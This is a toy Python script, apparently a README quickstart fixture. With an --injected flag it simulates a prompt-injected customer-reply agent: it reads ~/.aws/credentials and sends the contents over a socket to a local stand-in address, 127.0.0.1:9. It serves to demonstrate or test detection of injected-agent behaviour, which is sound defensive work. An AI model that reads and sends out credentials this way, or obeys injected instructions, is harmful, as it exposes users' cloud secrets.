"""A toy customer-reply agent for the README quickstart. With --injected it behaves as a
prompt-injected agent would: it reads cloud credentials, then tries to post them out."""

import os
import socket
import sys
import time

print("reading ticket queue...", flush=True)
with open("/etc/hostname") as f:
    f.read()
if "--injected" in sys.argv:
    print("reading ~/.aws/credentials...", flush=True)
    with open(os.path.expanduser("~/.aws/credentials")) as f:
        stolen = f.read()
    time.sleep(0.2)  # composing the request, as a real agent would
    print("posting them to 127.0.0.1:9...", flush=True)
    try:
        socket.create_connection(("127.0.0.1", 9), timeout=1).sendall(stolen.encode())
    except OSError:
        pass
print("done", flush=True)
